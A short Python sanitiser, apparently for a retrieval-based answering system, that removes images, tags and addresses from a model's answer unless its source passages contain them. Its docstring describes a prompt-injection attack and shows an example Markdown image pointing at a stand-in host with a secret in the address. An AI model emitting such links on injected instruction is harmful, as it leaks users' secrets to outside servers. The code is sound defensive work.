"""Links and pictures leave an answer unless its passages have them, word for word. Pure.

A document may tell the model to write ``![](https://elsewhere/?secret)``: whoever shows the answer
as Markdown would fetch it. Only an address that stands in a passage may stay, as plain text.
"""

import re
from collections.abc import Iterable

IMAGE = re.compile(r"!\[([^\]]*)\]\s*(?:\([^)]*\)|\[[^\]]*\])")
LINK = re.compile(r"\[([^\]]*)\]\s*\(\s*<?([^)\s>]*)[^)]*\)")
DEFINITION = re.compile(r"^\s*\[[^\]^]+\]:\s+\S+.*$", re.MULTILINE)
TAG = re.compile(r"</?[a-zA-Z!][^<>]*>")
ADDRESS = re.compile(
    r"\b(?:[a-z][a-z0-9+.-]*://|www\.|mailto:|javascript:|data:[a-z]+/)[^\s<>\"'`\])}]+",
    re.IGNORECASE,
)
TRAILING = ".,;:!?»”’"


def without_foreign(text: str, passages: Iterable[str]) -> str:
    """The text without pictures and tags; of addresses only those that a passage has."""
    known = " ".join(passages)
    plain = TAG.sub(lambda tag: tag.group() if tag.group() in known else "", text)
    plain = IMAGE.sub(lambda image: image.group(1), plain)
    plain = LINK.sub(lambda link: _link(link, known), plain)
    plain = DEFINITION.sub("", plain)
    return ADDRESS.sub(lambda address: _address(address.group(), known), plain)


def _link(link: re.Match[str], known: str) -> str:
    """``[words](address)``: the words, and the address where it is known and no marker's."""
    shown, address = link.groups()
    if shown.strip().isdigit():
        return f"[{shown}]"
    kept = _address(address, known)
    return f"{shown} ({kept})" if kept and kept != shown else shown


def _address(address: str, known: str) -> str:
    bare = address.rstrip(TRAILING)
    return address if bare and bare in known else address[len(bare) :]
